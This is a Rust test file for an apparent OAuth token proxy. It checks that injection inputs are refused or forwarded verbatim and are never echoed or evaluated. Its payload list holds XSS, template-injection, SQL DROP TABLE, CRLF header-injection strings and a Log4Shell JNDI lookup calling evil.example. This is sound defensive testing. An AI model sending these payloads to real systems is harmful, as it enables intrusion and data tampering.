//! Injection payloads: forwarded verbatim where the rules allow them, echoed nowhere.

use crate::helpers::cases::*;
use crate::helpers::*;
use serde_json::{json, Value};
use wiremock::ResponseTemplate;

const PAYLOADS: [&str; 6] = [
    "</script><script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "';DROP-TABLE-tokens;--",
    "%0d%0aSet-Cookie:x=1",
    "${7*7}<%=7*7%>#{7*7}",
];

/// Asserts that neither the body nor any header value of `response` contains `payload` (nor its
/// evaluation, 49); returns the body.
async fn assert_not_echoed(name: &str, response: reqwest::Response, payload: &str) -> Value {
    for (header, value) in response.headers() {
        let value = String::from_utf8_lossy(value.as_bytes());
        assert!(
            !value.contains(payload),
            "{name}: echoed in {header}: {value}"
        );
    }
    let text = response.text().await.expect("body");
    assert!(!text.contains(payload), "{name}: echoed: {text}");
    assert!(!text.contains("49"), "{name}: evaluated: {text}");
    serde_json::from_str(&text).expect("JSON body")
}

#[tokio::test]
async fn injection_payloads_are_forwarded_verbatim_or_refused_and_never_echoed() {
    let app = spawn_app().await;
    // Every payload is visible ASCII, so as a code it is valid input: the provider says it is
    // not a code it issued.
    app.upstream_answers(
        ResponseTemplate::new(400).set_body_json(json!({
            "error": "invalid_grant",
            "error_description": "The authorization code is invalid."
        })),
        PAYLOADS.len() as u64,
    )
    .await;
    for payload in PAYLOADS {
        let name = format!("code {payload:?}");
        let before = app.provider_calls().await;
        let body =
            json!({"code": payload, "code_verifier": VERIFIER, "redirect_uri": REDIRECT_URI});
        let response = app.post_json(TOKEN, &body).await;
        assert_eq!(response.status(), 400, "{name}");
        let body = assert_not_echoed(&name, response, payload).await;
        assert_eq!(body["error"], "invalid_grant", "{name}");
        let requests = app.upstream.received_requests().await.unwrap_or_default();
        assert_eq!(requests.len(), before + 1, "{name}");
        assert_eq!(
            form_of(requests.last().expect("a call"))
                .get("code")
                .map(String::as_str),
            Some(payload),
            "{name}: forwarded verbatim"
        );

        let placements: [(&str, &str, Value, u16, &str); 4] = [
            (
                "as the verifier",
                TOKEN,
                json!({"code": CODE, "code_verifier": payload, "redirect_uri": REDIRECT_URI}),
                400,
                "invalid_request",
            ),
            (
                "as the redirect_uri",
                TOKEN,
                json!({"code": CODE, "code_verifier": VERIFIER, "redirect_uri": payload}),
                400,
                "invalid_request",
            ),
            (
                "with CR LF, as the refresh token",
                REFRESH,
                json!({"refresh_token": format!("{payload}\r\nX-Injected: 1")}),
                400,
                "invalid_request",
            ),
            (
                "as the revoke token_type_hint",
                REVOKE,
                json!({"token": "abc", "token_type_hint": payload}),
                400,
                "invalid_request",
            ),
        ];
        for (placement, path, body, status, code) in placements {
            let name = format!("{payload:?} {placement}");
            let before = app.provider_calls().await;
            let response = app.post_json(path, &body).await;
            assert_eq!(response.status().as_u16(), status, "{name}");
            let body = assert_not_echoed(&name, response, payload).await;
            assert_eq!(body["error"], code, "{name}");
            assert_eq!(
                app.provider_calls().await,
                before,
                "{name}: provider called"
            );
        }

        // In the provider segment and in x-request-id (both end up in the log line).
        let name = format!("{payload:?} in the path and x-request-id");
        let path = format!("/api/v1/{}/token", enc(payload));
        let response = app
            .http
            .post(app.url(&path))
            .header("content-type", JSON)
            .header("x-request-id", payload)
            .body(json_exchange(CODE))
            .send()
            .await
            .expect("proxy answers");
        assert_eq!(response.status(), 404, "{name}");
        let body = assert_not_echoed(&name, response, payload).await;
        assert_eq!(body["error"], "not_found", "{name}");
        assert!(
            app.is_healthy().await,
            "{name}: the service stopped answering"
        );
    }
}

#[tokio::test]
async fn injection_payloads_in_unknown_fields_are_ignored_and_not_forwarded() {
    let cases = PAYLOADS
        .iter()
        .enumerate()
        .flat_map(|(i, payload)| {
            let n = 130 + 2 * i as u32;
            let json_body = json!({
                "code": code(n), "code_verifier": VERIFIER, "redirect_uri": REDIRECT_URI,
                "state": payload, "client_secret": payload,
            });
            // `/token` reads grant_type (a payload there is unsupported_grant_type, in
            // grant_type.rs); `/refresh` ignores it.
            let refresh_body = json!({
                "refresh_token": format!("{REFRESH_TOKEN}{n}"), "grant_type": payload,
                "client_id": payload,
            });
            let form_body = format!(
                "scope={}&client_id={}&{}",
                enc(payload),
                enc(payload),
                form_exchange(&code(n + 1))
            );
            [
                case(
                    format!("JSON with {payload:?} in state, client_secret"),
                    TOKEN,
                    JSON,
                    json_body.to_string(),
                    Expect::Served(vec![
                        ("code", code(n)),
                        ("client_secret", CLIENT_SECRET.to_owned()),
                        ("grant_type", "authorization_code".to_owned()),
                    ]),
                ),
                case(
                    format!("JSON to /refresh with {payload:?} in grant_type, client_id"),
                    REFRESH,
                    JSON,
                    refresh_body.to_string(),
                    Expect::Served(vec![
                        ("refresh_token", format!("{REFRESH_TOKEN}{n}")),
                        ("client_id", CLIENT_ID.to_owned()),
                        ("grant_type", "refresh_token".to_owned()),
                    ]),
                ),
                case(
                    format!("form with {payload:?} in scope and client_id"),
                    TOKEN,
                    FORM,
                    form_body,
                    Expect::Served(vec![
                        ("code", code(n + 1)),
                        ("client_id", CLIENT_ID.to_owned()),
                    ]),
                ),
            ]
        })
        .collect();
    run_table(cases).await;
}
